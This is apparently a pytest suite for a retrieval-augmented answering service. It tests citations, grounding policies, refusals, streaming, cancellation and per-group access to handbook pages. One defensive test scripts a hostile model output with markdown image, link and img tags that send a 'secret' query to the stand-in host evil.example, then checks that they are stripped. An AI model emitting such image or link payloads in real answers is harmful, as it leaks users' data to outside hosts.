"""The answer path over a real catalog and real indexes, with a scripted language model."""

from __future__ import annotations

import threading
from collections.abc import Iterator, Sequence
from itertools import islice
from pathlib import Path

import pytest

from rag.answering.answerer import Answerer
from rag.answering.citing import SpanCitationMatcher
from rag.answering.events import (
    AnswerEvent,
    CitationEvent,
    DoneEvent,
    GroundingEvent,
    RetrievalEvent,
    TokenEvent,
)
from rag.cancellation import Cancellation
from rag.conversation.rewriting import CarryOverRewriter
from rag.domain import (
    Access,
    Answer,
    AnswerStatus,
    Draft,
    Evidence,
    GeneratorItem,
    GroundingPolicy,
    GroundingReport,
    Passage,
    Prompt,
    Question,
    Restart,
    Turn,
    Verdict,
)
from rag.errors import (
    CollectionNotFound,
    GenerationCancelled,
    GenerationFailed,
    InvalidQuestion,
    InvalidRequest,
    ModelUnavailable,
)
from rag.factory import Footnote
from rag.interfaces import AnswerabilityJudge, Generator, GroundednessChecker, GroundingSession
from rag.prompting.building import REFUSAL_MARK, PromptBuilder
from rag.settings import load_settings
from tests.fakes import HashedEmbedder, ScriptedGenerator
from tests.patience import LONG_S
from tests.sources import new_version, put

EVERYTHING = Access.everything()
EMBEDDER = HashedEmbedder(dimension=512)
LEAVE = "Annual leave is twenty-five days a year. Five days may be carried over until 31 March."
SECRET = "The annual leave of directors is forty days."
ASKED = "How many days of annual leave are there a year?"
GOOD = "Annual leave is twenty-five days a year [1]."
MIXED = "Annual leave is twenty-five days a year. [1] Submarines are repaired in Brest by the navy. [2]"
BAD = "Submarines are repaired in Brest by the navy [1]."


class FixedJudge:
    """Believes in every passage, or in none."""

    threshold = 0.5

    def __init__(self, probability: float = 1.0) -> None:
        self._probability = probability

    def probability(self, question: Question, passages: Sequence[Passage]) -> float:
        return self._probability if passages else 0.0


class CrashingChecker:
    name = "crashing"

    def begin(self, evidence: Sequence[Evidence], *, question: str | None = None) -> GroundingSession:
        raise ModelUnavailable("The checker's weights are missing.")

    def check(
        self, answer: str, evidence: Sequence[Evidence], *, question: str | None = None
    ) -> GroundingReport:
        raise ModelUnavailable("The checker's weights are missing.")


class DecliningGenerator:
    name = "declining"

    def stream(self, prompt: Prompt, *, cancellation: Cancellation | None = None) -> Iterator[GeneratorItem]:
        yield Draft(text=REFUSAL_MARK, llm=self.name, refused=True)


class SilentGenerator:
    name = "silent"

    def stream(self, prompt: Prompt, *, cancellation: Cancellation | None = None) -> Iterator[GeneratorItem]:
        yield "Words without a draft."


@pytest.fixture
def footnote(tmp_path: Path) -> Iterator[Footnote]:
    """A handbook with a page for everyone and one for directors."""
    with Footnote(load_settings(data_dir=tmp_path / "data"), embedder=EMBEDDER) as opened:
        collection = opened.open_collection("handbook")
        pages = {"leave.md": (LEAVE, frozenset()), "secret.md": (SECRET, frozenset({"directors"}))}
        for path, (text, groups) in pages.items():
            put(opened.catalog, collection.id, new_version(path, text, embedder=EMBEDDER, groups=groups))
        opened.open_collection("empty")
        yield opened


def answerer(
    footnote: Footnote,
    *answers: str | Exception,
    generator: Generator | None = None,
    judge: AnswerabilityJudge | None = None,
    checker: GroundednessChecker | None = None,
    starts_early: bool = False,
) -> Answerer:
    return Answerer(
        retriever=footnote.retriever,
        judge=judge or FixedJudge(),
        generator=generator or ScriptedGenerator(*answers),
        citer=SpanCitationMatcher(EMBEDDER),
        checker=checker or footnote.checker(),
        rewriter=CarryOverRewriter(),
        k=5,
        prompts=PromptBuilder(budget_tokens=3000),
        policy=GroundingPolicy.ANNOTATE,
        starts_early=starts_early,
    )


def ask(asked: Answerer, question: str = ASKED, *, access: Access = EVERYTHING, **options: object) -> Answer:
    return asked.answer(question, collection="handbook", access=access, **options)  # type: ignore[arg-type]


def assert_sound(answer: Answer, footnote: Footnote) -> None:
    for sentence in answer.sentences:
        assert answer.text[sentence.start : sentence.end] == sentence.text
        assert set(sentence.citations) <= {citation.n for citation in answer.citations}
    for citation in answer.citations:
        stored = footnote.catalog.content(citation.document_id, access=EVERYTHING, version=citation.version)
        assert stored.text[citation.start : citation.end] == citation.quote


# ---------------------------------------------------------------------------------------- answers


def test_an_answer_is_cited_checked_and_timed(footnote: Footnote) -> None:
    answer = ask(answerer(footnote, GOOD))
    assert_sound(answer, footnote)
    assert (answer.status, answer.reason) == (AnswerStatus.ANSWERED, None)
    assert answer.text == "Annual leave is twenty-five days a year."
    assert [sentence.verdict for sentence in answer.sentences] == [Verdict.SUPPORTED]
    assert [citation.quote for citation in answer.citations] == ["Annual leave is twenty-five days a year."]
    assert answer.grounding is not None
    assert {"embed", "retrieve", "rerank", "generate", "ground", "total"} <= answer.timings_ms.keys()
    assert all(milliseconds >= 0 for milliseconds in answer.timings_ms.values())
    assert answer.llm == "scripted"
    assert answer.passages


def test_every_answer_has_an_id_of_its_own(footnote: Footnote) -> None:
    asked = answerer(footnote, GOOD, GOOD)
    assert ask(asked).answer_id != ask(asked).answer_id


def streamed(asked: Answerer, **options: object) -> tuple[list[AnswerEvent], Answer]:
    """All events, and the answer at their end."""
    events = list(asked.events(ASKED, collection="handbook", access=EVERYTHING, **options))  # type: ignore[arg-type]
    done = events[-1]
    assert isinstance(done, DoneEvent)
    return events, done.answer


def shown(events: Sequence[AnswerEvent]) -> str:
    """The text that somebody who follows the stream sees at its end."""
    text = ""
    for event in events:
        if isinstance(event, TokenEvent):
            text = event.text if event.restart else text + event.text
    return text


def test_events_come_in_the_order_of_the_path_and_add_up_to_the_answer(footnote: Footnote) -> None:
    events, answer = streamed(answerer(footnote, MIXED))
    assert isinstance(events[0], RetrievalEvent)
    assert events[0].passages == answer.passages
    assert shown(events).split() == answer.text.split()
    assert "[" not in shown(events)
    citations = [event.citation for event in events if isinstance(event, CitationEvent)]
    sentences = [event.sentence for event in events if isinstance(event, GroundingEvent)]
    assert (tuple(citations), tuple(sentences)) == (answer.citations, answer.sentences)
    kinds = [type(event) for event in events]
    assert kinds.index(CitationEvent) < kinds.index(GroundingEvent)


def test_a_sentence_is_cited_and_checked_while_the_next_is_still_written(footnote: Footnote) -> None:
    checked = threading.Event()

    class PausingGenerator:
        name = "pausing"

        def stream(
            self, prompt: Prompt, *, cancellation: Cancellation | None = None
        ) -> Iterator[GeneratorItem]:
            yield "Annual leave is twenty-five days a year [1]. Five days"
            assert checked.wait(timeout=LONG_S), "the first sentence was not checked in time"
            yield " may be carried over [1]."
            yield Draft(text="(as streamed)", llm=self.name)

    for event in answerer(footnote, generator=PausingGenerator()).events(
        ASKED, collection="handbook", access=EVERYTHING
    ):
        if isinstance(event, GroundingEvent):
            checked.set()
    assert isinstance(event, DoneEvent)
    assert [sentence.verdict for sentence in event.answer.sentences] == [Verdict.SUPPORTED] * 2


def test_a_new_beginning_voids_what_was_streamed(footnote: Footnote) -> None:
    class RestartingGenerator:
        name = "first"

        def stream(
            self, prompt: Prompt, *, cancellation: Cancellation | None = None
        ) -> Iterator[GeneratorItem]:
            yield "Submarines are repaired in Brest. And then"
            yield Restart(llm="second")
            yield GOOD
            yield Draft(text=GOOD, llm="second", failed=("first",))

    events, answer = streamed(answerer(footnote, generator=RestartingGenerator()))
    assert shown(events) == answer.text == "Annual leave is twenty-five days a year."
    assert_sound(answer, footnote)
    assert (answer.llm, answer.failed_llms, answer.status) == ("second", ("first",), AnswerStatus.ANSWERED)
    assert answer.reason == "The language model first did not answer; this is by second."


def test_an_answer_that_nobody_waits_for_is_given_up(footnote: Footnote) -> None:
    cancellation, stopped = Cancellation(), threading.Event()

    class WaitingGenerator:
        name = "waiting"

        def stream(
            self, prompt: Prompt, *, cancellation: Cancellation | None = None
        ) -> Iterator[GeneratorItem]:
            assert cancellation is not None
            yield "Annual leave"
            with cancellation.calling(stopped.set):
                stopped.wait(timeout=LONG_S)
            raise GenerationCancelled("Given up.")

    events = answerer(footnote, generator=WaitingGenerator()).events(
        ASKED, collection="handbook", access=EVERYTHING, cancellation=cancellation
    )
    assert any(isinstance(event, TokenEvent) for event in islice(events, 2))
    threading.Timer(0.05, cancellation.cancel).start()
    with pytest.raises(GenerationCancelled):
        list(events)
    assert stopped.wait(timeout=LONG_S)


class EndlessGenerator:
    """Writes until it is given up."""

    name = "endless"

    def __init__(self) -> None:
        self.begun, self.stopped = threading.Event(), threading.Event()

    def stream(self, prompt: Prompt, *, cancellation: Cancellation | None = None) -> Iterator[GeneratorItem]:
        assert cancellation is not None
        self.begun.set()
        while not cancellation.is_cancelled:
            yield "on and "
        self.stopped.set()


def test_a_model_that_starts_early_is_stopped_by_a_refusal_and_shows_nothing(footnote: Footnote) -> None:
    generator = EndlessGenerator()

    class WaitingJudge(FixedJudge):
        def probability(self, question: Question, passages: Sequence[Passage]) -> float:
            assert generator.begun.wait(timeout=LONG_S), "the model did not start while judging"
            return 0.1

    asked = answerer(footnote, generator=generator, judge=WaitingJudge(), starts_early=True)
    events, answer = streamed(asked)
    assert (answer.status, shown(events)) == (AnswerStatus.REFUSED, "")
    assert generator.stopped.wait(timeout=LONG_S)


def test_a_stream_that_is_closed_gives_the_draft_up(footnote: Footnote) -> None:
    generator = EndlessGenerator()
    events = answerer(footnote, generator=generator).events(ASKED, collection="handbook", access=EVERYTHING)
    next(events)
    next(events)
    events.close()  # type: ignore[attr-defined]
    assert generator.stopped.wait(timeout=LONG_S)


@pytest.mark.parametrize("policy", [GroundingPolicy.DROP, GroundingPolicy.REGENERATE])
def test_what_is_dropped_is_not_left_standing_in_the_stream(
    footnote: Footnote, policy: GroundingPolicy
) -> None:
    events, answer = streamed(answerer(footnote, MIXED, MIXED), policy=policy)
    assert shown(events) == answer.text == "Annual leave is twenty-five days a year."
    assert_sound(answer, footnote)


def test_what_is_withheld_is_never_streamed(footnote: Footnote) -> None:
    events, answer = streamed(answerer(footnote, MIXED), policy=GroundingPolicy.REFUSE)
    assert (shown(events), answer.status) == ("", AnswerStatus.REFUSED)
    events, answer = streamed(answerer(footnote, GOOD), policy=GroundingPolicy.REFUSE)
    assert shown(events) == answer.text == "Annual leave is twenty-five days a year."


def test_a_follow_up_is_searched_for_as_it_stands_alone(footnote: Footnote) -> None:
    history = [Turn(question="How much annual leave is there?", answer="25 days.")]
    answer = ask(answerer(footnote, GOOD), "Can it be carried over?", history=history)
    assert answer.question == "Can it be carried over?"
    assert answer.standalone_question is not None
    assert "annual leave" in answer.standalone_question
    assert ask(answerer(footnote, GOOD), history=history).standalone_question is None


def test_the_extractive_answerer_answers_from_the_handbook(footnote: Footnote) -> None:
    answer = ask(answerer(footnote, generator=footnote.llms.chain("extractive")))
    assert_sound(answer, footnote)
    assert answer.status is AnswerStatus.ANSWERED
    assert answer.citations
    assert {sentence.verdict for sentence in answer.sentences} == {Verdict.SUPPORTED}


def test_links_and_pictures_of_a_generator_reach_nobody(footnote: Footnote) -> None:
    hostile = (
        "Annual leave is twenty-five days a year [1]. ![Chart](https://evil.example/?q=secret) "
        "Five days [may be](https://evil.example/a) carried over until 31 March <img src=//evil.example> [1]."
    )
    events, answer = streamed(answerer(footnote, hostile))
    assert_sound(answer, footnote)
    for text in (shown(events), answer.text):
        assert "evil.example" not in text
        assert "carried over until 31 March" in text
    assert answer.sentences[0].verdict is Verdict.SUPPORTED


# ----------------------------------------------------------------------------------------- rights


def test_nobody_is_answered_from_what_they_may_not_read(footnote: Footnote) -> None:
    generator = ScriptedGenerator(GOOD, GOOD)
    outsider = ask(answerer(footnote, generator=generator), access=Access(groups=frozenset({"staff"})))
    assert all("directors" not in passage.text for passage in outsider.passages)
    assert "forty days" not in generator.prompts[0].user
    director = ask(answerer(footnote, generator=generator), access=Access(groups=frozenset({"directors"})))
    assert any("directors" in passage.text for passage in director.passages)


# --------------------------------------------------------------------------------------- refusals


def test_a_collection_without_documents_refuses_and_calls_no_model(footnote: Footnote) -> None:
    generator = ScriptedGenerator()
    answer = answerer(footnote, generator=generator).answer(ASKED, collection="empty", access=EVERYTHING)
    assert (answer.status, answer.passages) == (AnswerStatus.REFUSED, ())
    assert answer.reason == "No document of this collection matches the question."
    assert generator.prompts == []


def test_a_question_that_the_passages_do_not_answer_is_refused_with_the_nearest_ones(
    footnote: Footnote,
) -> None:
    generator = ScriptedGenerator()
    answer = ask(answerer(footnote, generator=generator, judge=FixedJudge(0.2)))
    assert (answer.status, answer.answerability) == (AnswerStatus.REFUSED, 0.2)
    assert answer.reason
    assert answer.text == answer.reason
    assert answer.passages
    assert (answer.citations, answer.sentences, answer.grounding) == ((), (), None)
    assert generator.prompts == []


def test_a_refusal_speaks_the_language_of_the_question(footnote: Footnote) -> None:
    answer = ask(answerer(footnote, judge=FixedJudge(0.2)), "Combien de jours de congés y a-t-il ?")
    assert answer.reason is not None
    assert answer.reason.startswith("Les documents ne semblent pas")


def test_a_model_that_declines_is_a_refusal_and_its_mark_is_not_shown(footnote: Footnote) -> None:
    asked = answerer(footnote, generator=DecliningGenerator())
    events = list(asked.events(ASKED, collection="handbook", access=EVERYTHING))
    assert not [event for event in events if isinstance(event, TokenEvent)]
    answer = ask(asked)
    assert answer.status is AnswerStatus.REFUSED
    assert REFUSAL_MARK not in answer.text
    assert answer.passages


# --------------------------------------------------------------------------------------- policies


def test_annotate_marks_what_is_unsupported(footnote: Footnote) -> None:
    answer = ask(answerer(footnote, MIXED))
    assert_sound(answer, footnote)
    assert [sentence.verdict for sentence in answer.sentences] == [Verdict.SUPPORTED, Verdict.UNSUPPORTED]


def test_drop_removes_it(footnote: Footnote) -> None:
    answer = ask(answerer(footnote, MIXED), policy=GroundingPolicy.DROP)
    assert_sound(answer, footnote)
    assert (answer.text, answer.dropped_sentences) == ("Annual leave is twenty-five days a year.", 1)
    assert answer.status is AnswerStatus.ANSWERED


def test_refuse_withholds_the_whole_answer(footnote: Footnote) -> None:
    answer = ask(answerer(footnote, MIXED), policy=GroundingPolicy.REFUSE)
    assert answer.status is AnswerStatus.REFUSED
    assert "Submarines" not in answer.text
    assert "twenty-five" not in answer.text
    assert answer.reason
    assert "withheld" in answer.reason


def test_regenerate_asks_once_more_and_takes_the_better_answer(footnote: Footnote) -> None:
    generator = ScriptedGenerator(MIXED, GOOD)
    answer = ask(answerer(footnote, generator=generator), policy=GroundingPolicy.REGENERATE)
    assert len(generator.prompts) == 2
    assert (answer.text, answer.dropped_sentences) == ("Annual leave is twenty-five days a year.", 0)


def test_regenerate_drops_what_is_still_unsupported(footnote: Footnote) -> None:
    answer = ask(answerer(footnote, BAD, MIXED), policy=GroundingPolicy.REGENERATE)
    assert (answer.text, answer.dropped_sentences) == ("Annual leave is twenty-five days a year.", 1)
    assert ask(answerer(footnote, BAD, BAD), policy=GroundingPolicy.REGENERATE).status is AnswerStatus.REFUSED


def test_an_answer_without_fault_is_not_generated_twice(footnote: Footnote) -> None:
    generator = ScriptedGenerator(GOOD)
    ask(answerer(footnote, generator=generator), policy=GroundingPolicy.REGENERATE)
    assert len(generator.prompts) == 1


# --------------------------------------------------------------------------------------- failures


def test_a_check_that_crashes_is_refused_where_the_policy_refuses(footnote: Footnote) -> None:
    answer = ask(answerer(footnote, GOOD, checker=CrashingChecker()), policy=GroundingPolicy.REFUSE)
    assert answer.status is AnswerStatus.REFUSED


@pytest.mark.parametrize("policy", [each for each in GroundingPolicy if each is not GroundingPolicy.REFUSE])
def test_a_check_that_fails_leaves_the_answer_unverified_never_supported(
    footnote: Footnote, policy: GroundingPolicy
) -> None:
    answer = ask(answerer(footnote, GOOD, checker=CrashingChecker()), policy=policy)
    assert_sound(answer, footnote)
    assert (answer.status, answer.grounding) == (AnswerStatus.UNVERIFIED, None)
    assert answer.reason
    assert {sentence.verdict for sentence in answer.sentences} == {Verdict.NOT_CHECKABLE}
    assert answer.citations


def test_a_model_that_fails_is_an_error_and_no_answer(footnote: Footnote) -> None:
    with pytest.raises(GenerationFailed):
        ask(answerer(footnote, GenerationFailed("It did not answer.")))
    with pytest.raises(GenerationFailed, match="without a draft"):
        ask(answerer(footnote, generator=SilentGenerator()))


def test_wrong_requests_are_said(footnote: Footnote) -> None:
    asked = answerer(footnote)
    with pytest.raises(InvalidQuestion):
        ask(asked, "   ")
    with pytest.raises(InvalidRequest, match="k is 0"):
        ask(asked, k=0)
    with pytest.raises(CollectionNotFound, match="nowhere"):
        asked.answer(ASKED, collection="nowhere", access=EVERYTHING)


def test_passages_from_elsewhere_are_answered_from_without_a_collection(footnote: Footnote) -> None:
    found = ask(answerer(footnote, GOOD)).passages
    answer = answerer(footnote, GOOD).answer_from_passages(ASKED, found)
    assert answer.text == "Annual leave is twenty-five days a year."
    assert answerer(footnote).answer_from_passages(ASKED, []).status is AnswerStatus.REFUSED


class RepeatingGenerator:
    """Repeats the passages with the sign before their sentences, and remembers what it read."""

    name = "repeating"

    def __init__(self) -> None:
        self.read: list[Prompt] = []

    def stream(self, prompt: Prompt, *, cancellation: Cancellation | None = None) -> Iterator[GeneratorItem]:
        self.read.append(prompt)
        text = "".join(f"{prompt.datamark}{sentence}. [1] " for sentence in LEAVE.rstrip(".").split(". "))
        yield from text
        yield Draft(text=text, llm=self.name)


def test_the_sign_that_marks_the_passages_never_reaches_a_reader(footnote: Footnote) -> None:
    generator = RepeatingGenerator()
    events = list(
        answerer(footnote, generator=generator).events(ASKED, collection="handbook", access=EVERYTHING)
    )
    (prompt,) = generator.read
    assert prompt.datamark in prompt.user
    streamed = "".join(event.text for event in events if isinstance(event, TokenEvent))
    assert isinstance(events[-1], DoneEvent)
    for text in (streamed, events[-1].answer.text):
        assert LEAVE in text
        assert "^" not in text


def test_the_turns_before_a_question_are_read_with_it(footnote: Footnote) -> None:
    generator = RepeatingGenerator()
    history = [Turn(question="What is the VPN for?", answer="For work at home.")]
    ask(answerer(footnote, generator=generator), history=history)
    assert "For work at home." in generator.read[0].user.split("<passage")[0]
